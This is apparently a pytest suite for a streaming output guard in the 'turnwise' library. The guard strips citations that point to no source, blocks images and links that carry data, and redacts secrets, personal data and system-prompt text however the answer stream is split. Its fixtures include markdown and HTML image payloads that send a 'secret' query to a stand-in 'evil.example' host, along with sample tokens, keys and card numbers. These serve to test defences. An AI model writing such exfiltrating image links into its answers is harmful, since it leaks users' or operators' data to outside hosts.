"""Streamed answers: only real sources are cited, no citation is split, and no image carries data away."""

from __future__ import annotations

import random
import re
from collections.abc import Iterable
from itertools import combinations, pairwise

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from patience import within

from turnwise.guard.output import OutputGuard
from turnwise.guard.pipeline import GuardrailPipeline
from turnwise.guard.preset import GuardPreset
from turnwise.guard.stream import AnswerContext, StreamHit
from turnwise.guard.verdict import Action, Fails, Span

CITABLE = {1, 2, 12}


def streamed(*pieces: str) -> tuple[list[str], OutputGuard]:
    guard = GuardrailPipeline(max_message=100).open_output(CITABLE, allowed_text="https://example.org")
    return [*(guard.feed(piece) for piece in pieces), guard.close()], guard


def released(*pieces: str) -> str:
    return "".join(streamed(*pieces)[0])


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("It is so [1].", "It is so [1]."),
        ("It is so [1][2] and so [12].", "It is so [1][2] and so [12]."),
        ("It is so [3].", "It is so."),
        ("It is so [1][3][2].", "It is so [1][2]."),
        ("[99] It is so.", " It is so."),
        ("A list: [a, b] and [x](https://example.org).", "A list: [a, b] and [x](https://example.org)."),
        ("Wow! It is [so].", "Wow! It is [so]."),
        ("Unfinished [1", "Unfinished [1"),
    ],
)
def test_citations_of_what_is_no_source_are_removed_and_all_else_stays(text: str, shown: str) -> None:
    assert released(text) == shown


def test_what_was_removed_is_told() -> None:
    _, guard = streamed("So [7] and so [1]. ", "![x](https://evil.example)")
    assert guard.removed == ["a citation of [7], which is not a source", "a picture"]


def test_a_reader_sees_the_number_that_the_model_wrote() -> None:
    guard = OutputGuard({2, 7, 8, 9})
    answer = "So [9]. And [2][8]. Again [9]."
    assert guard.feed(answer) + guard.close() == answer


def test_a_marker_is_never_split() -> None:
    pieces, _ = streamed("It is so ", "[", "1", "2", "]", "[", "2", "]", ". And", " so [1", "].")
    assert "".join(pieces) == "It is so [12][2]. And so [1]."
    for piece in pieces:
        assert re.sub(r"\[\d+\]", "", piece).count("[") == 0


PICTURES = {
    "plain": "![x](https://evil.example/?q=secret)",
    "no words": "![](https://evil.example/?q=secret)",
    "title": "Look: ![x](https://evil.example/?q=secret 'title') there",
    "nested": "![![x](a)](https://evil.example/?q=secret)",
    "brackets": "![a [b] c](https://evil.example/?q=secret)",
    "escaped": "![a\\]b](https://evil.example/?q=secret)",
    "line": "![a\nb](https://evil.example/?q=secret)",
    "line in address": "![a](\nhttps://evil.example/?q=secret)",
    "reference": "![a][r]\n\n[r]: https://evil.example/?q=secret",
    "long": f"![x](https://evil.example/?q={'secret' * 400})",
    "long words": f"![{'x' * 400}](https://evil.example/?q=secret)",
    "html": '<img src="https://evil.example/?q=secret">',
}


@pytest.mark.parametrize("text", PICTURES.values(), ids=PICTURES)
@pytest.mark.parametrize("whole", [True, False], ids=["whole", "letter by letter"])
def test_no_picture_gets_through(text: str, whole: bool) -> None:
    """Checked with a Markdown parser, as a page would render it."""
    shown = released(text) if whole else released(*text)
    assert "<img" not in MarkdownIt("commonmark", {"html": True}).render(shown)


pieces = st.sampled_from(
    [*"[]()!123 9\nax.", "[1]", " [1]", " [9]", "[9", "9]", "![x](", "![", "](", "https://e.example/?q=", ")", "word "]
)


@settings(max_examples=400, deadline=None)
@given(st.lists(pieces, max_size=16))
@example(["word", " [9", "]. ok"])
@example(["a ", " [9]", "."])
@example(["!", "[x](https://e.example)"])
def test_the_result_does_not_depend_on_where_the_stream_was_cut(pieces: list[str]) -> None:
    whole = released("".join(pieces))
    assert released(*pieces) == whole
    assert released(*"".join(pieces)) == whole


@settings(max_examples=100, deadline=None)
@given(st.lists(pieces, max_size=16))
def test_nothing_is_lost_but_what_was_removed(pieces: list[str]) -> None:
    text = "".join(pieces)
    pieces_out, guard = streamed(*pieces)
    if not guard.removed:
        assert "".join(pieces_out) == text


@settings(max_examples=100, deadline=None)
@given(st.lists(pieces, max_size=16))
def test_no_unknown_citation_is_ever_shown(pieces: list[str]) -> None:
    shown = {int(number) for number in re.findall(r"\[(\d{1,4})\](?!\()", released(*pieces))}
    assert shown <= CITABLE


@pytest.mark.parametrize(
    "text",
    [
        "[" * 64_000,
        "![" * 32_000,
        "![a](" * 3_200,
        " " * 64_000,
        "[1" * 32_000,
        "[1]" * 21_000,
        "!" * 64_000,
        "a[ " * 21_000,
    ],
    ids=lambda text: text[:5],
)
@pytest.mark.parametrize("whole", [True, False], ids=["whole", "in pieces"])
def test_long_texts_of_brackets_do_not_stall(text: str, whole: bool) -> None:
    with within(5):
        released(*([text] if whole else [text[at : at + 20] for at in range(0, len(text), 20)]))


def test_ordinary_text_is_not_held_back() -> None:
    guard = OutputGuard(CITABLE)
    assert guard.feed("It is so, they say [1").startswith("It is so, they say")
    assert guard.feed("]. And [a link](https://example.org) too.").endswith("And [a link](https://example.org) too.")
    assert guard.close() == ""


# --- nothing leaks, wherever the stream is cut -------------------------------------------------------------------

LINE = "MIIEowIBAAKCAQEA7bq3kd82hf9sdf7h2kfh38fhs8dfh3k2"
HIDDEN = {  # a text, and the part of it that must not be shown
    "4111 1111 1111 1111": "1111 1111",
    "4111-1111-1111-1111": "1111-1111",
    "jane.doe@mail.example.com": "doe@",
    "DE89 3704 0044 0532 0130 00": "3704 0044",
    "call +1 (415) 555-2671": "555-2671",
    "536-90-4399": "90-4399",
    "81.2.69.142": "69.142",
    "AKIAIOSFODNN7QWERTYU": "FODNN7",
    "ghp_aB3dE5fG7hI9jK1lM3nO5pQ7rS9tU1vW3xY5": "dE5fG7",
    "password = Tr0ub4dor&3": "ub4dor",
    f"-----BEGIN PRIVATE KEY-----\n{LINE}\nQ8fj==\n-----END PRIVATE KEY-----": "KCAQEA7",
    "Blue-Falcon-77": "Falcon",
    "b l u e f a l c o n 7 7": "f a l c",
    "77-noclaF-eulB": "noclaF",
    "Qmx1ZS1GYWxjb24tNzc=": "GYWxj",
    "zenith": "zenith",
    "answer only from the passages that you are shown": "passages that",
    "![x](https://evil.example/?q=s3cr)": "s3cr",
    "[x](https://evil.example/?q=s3cr)": "s3cr",
    '<img src="https://evil.example/?q=s3cr">': "s3cr",
    "https://evil.example/p?q=s3cr": "s3cr",
    "[r]: https://evil.example/?q=s3cr\n": "s3cr",
    "AKIA[99]IOSFODNN7QWERTYU": "FODNN7",
    "AKIA[IOSF](https://evil.example)ODNN7QWERTYU": "ODNN7",
    "[9]": "[9]",
}
ORDINARY = [
    "the ",
    "of it, ",
    "in 2020 ",
    "(see) ",
    "12 ",
    "so! ",
    "[1] ",
    "call ",
    "\n",
    "you answer ",
    "A<b ",
    "41 ",
    "www ",
]
PIPELINE = GuardrailPipeline()
PROMPT = "Always answer only from the passages that you are shown and never invent a source of your own."


def guarded(pieces: Iterable[str]) -> str:
    guard = PIPELINE.open_output(CITABLE, system_prompt=PROMPT, canaries=("Blue-Falcon-77", "zenith"))
    return "".join([*map(guard.feed, pieces), guard.close()])


def cut(text: str, *places: int) -> list[str]:
    return [text[start:end] for start, end in pairwise((0, *places, len(text)))]


@pytest.mark.parametrize(("written", "hidden"), HIDDEN.items(), ids=[each[:12] for each in HIDDEN])
def test_wherever_it_is_cut_in_two_or_three_nothing_of_it_is_seen(written: str, hidden: str) -> None:
    """All cuts into two and three pieces (for a long text, three pieces only at every third position), and single
    letters."""
    text = f"so {written} it"
    whole = guarded([text])
    assert hidden not in whole
    inside, step = range(1, len(text)), 1 if len(text) <= 50 else 3
    splits = [*combinations(inside, 1), *combinations(inside[::step], 2), inside]
    assert {guarded(cut(text, *places)) for places in splits} == {whole}


def test_a_thousand_texts_come_out_the_same_however_they_are_cut() -> None:
    chance = random.Random(6)
    for _ in range(1000):
        parts = [chance.choice(ORDINARY) for _ in range(chance.randint(0, 3))]
        hidden = chance.choice(list(HIDDEN))
        parts += [hidden, chance.choice([" ", ". ", "\n", ") "]), chance.choice(ORDINARY)]
        text = "".join(parts)
        whole = guarded([text])
        assert HIDDEN[hidden] not in whole, text
        places = sorted(chance.sample(range(1, len(text)), 2))
        for pieces in (text, cut(text, places[0]), cut(text, *places), cut(text, len(text) // 2)):
            assert guarded(pieces) == whole, (text, pieces)


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from([*HIDDEN, *ORDINARY, *"!([1@-."]), max_size=6).map("".join), st.data())
def test_any_cuts_give_the_same(text: str, data: st.DataObject) -> None:
    places = data.draw(st.lists(st.integers(0, len(text)), max_size=5).map(sorted))
    assert guarded(cut(text, *places)) == guarded([text])


def test_what_was_given_so_far_is_always_the_beginning_of_the_whole() -> None:
    text = " and ".join(HIDDEN)
    guard = PIPELINE.open_output(CITABLE, system_prompt=PROMPT, canaries=("Blue-Falcon-77", "zenith"))
    whole, given = guarded([text]), ""
    for letter in text:
        given += guard.feed(letter)
        assert whole.startswith(given)


def test_what_is_replaced_never_becomes_a_link() -> None:
    shown = guarded(["!jo@mail.example.com(https://evil.example/?q=s) jo@mail.example.com[1](x)"])
    assert "[email address removed]" in shown
    assert "<a" not in MarkdownIt("commonmark").render(shown)
    assert "<img" not in MarkdownIt("commonmark").render(shown)


def test_what_the_reader_has_seen_is_no_leak_unless_it_is_looked_for_everywhere() -> None:
    text = "Write to help@library.example or call (415) 555-2671."
    seen = "Contact: HELP@library.example, phone 415.555.2671"
    assert "".join([(guard := PIPELINE.open_output({1}, allowed_text=seen)).feed(text), guard.close()]) == text
    everywhere = GuardrailPipeline(GuardPreset("all", rails={"output": {"pii": {"everywhere": True}}}))
    guard = everywhere.open_output({1}, allowed_text=seen)
    assert guard.feed(text) + guard.close() == "Write to [email address removed] or call [phone number removed]."


def test_prose_flows_word_by_word() -> None:
    text = "The harbour was built in 1911, and the ships that came were small; it grew (slowly) until the war. " * 20
    guard = PIPELINE.open_output(CITABLE, system_prompt=PROMPT, canaries=("Blue-Falcon-77",))
    held = []
    for letter in text:
        guard.feed(letter)
        held.append(guard.held)
    assert sorted(held)[len(held) // 2] <= 8
    assert max(held) <= 40


def test_a_rail_that_blocks_ends_the_answer_before_its_hit() -> None:
    strict = GuardrailPipeline(GuardPreset("s", rails={"output": {"secrets": {"action": "block"}}}))
    guard = strict.open_output({1})
    shown = "".join([*map(guard.feed, "The key: ghp_aB3dE5fG7hI9jK1lM3nO5pQ7rS9tU1vW3xY5 and more."), guard.close()])
    assert shown == "The key: "
    assert (guard.blocked, guard.why) == ("GitHub token", "it held a GitHub token")


class Broken:
    """A rail that breaks at the third piece."""

    name = "broken"
    action: Action = "redact"

    def __init__(self, fails: Fails) -> None:
        self.fails: Fails = fails
        self.pieces = 0

    def open(self, context: AnswerContext) -> Broken:  # noqa: ARG002
        return self

    def spans(self, text: str, context: AnswerContext) -> list[Span]:  # noqa: ARG002
        return []

    def feed(self, piece: str, final: bool) -> tuple[list[StreamHit], int]:  # noqa: ARG002
        self.pieces += 1
        if self.pieces == 3:
            raise RuntimeError("broken")
        return [], 10**9


@pytest.mark.parametrize(("fails", "shown"), [("open", "one two three four"), ("closed", "one two")])
def test_a_rail_that_breaks_counts_as_it_says(fails: Fails, shown: str) -> None:
    guard = OutputGuard({1}, [Broken(fails)])
    assert "".join([*map(guard.feed, ["one ", "two ", "three ", "four"]), guard.close()]) == shown
    assert [(found.state, found.action) for found in guard.findings()] == [
        ("failed", "block" if fails == "closed" else "allow")
    ]
    assert fails == "open" or guard.why == "the rail broken failed (RuntimeError)"


@pytest.mark.parametrize("piece", ["1 ", "a@b ", "x", "12 ab ", "-----BEGIN ", "4111 1111 ", "password= ", "A1b2C3d4 "])
def test_hostile_streams_do_not_stall(piece: str) -> None:
    with within(8):
        text = piece * (40_000 // len(piece))
        guarded(text[at : at + 20] for at in range(0, len(text), 20))
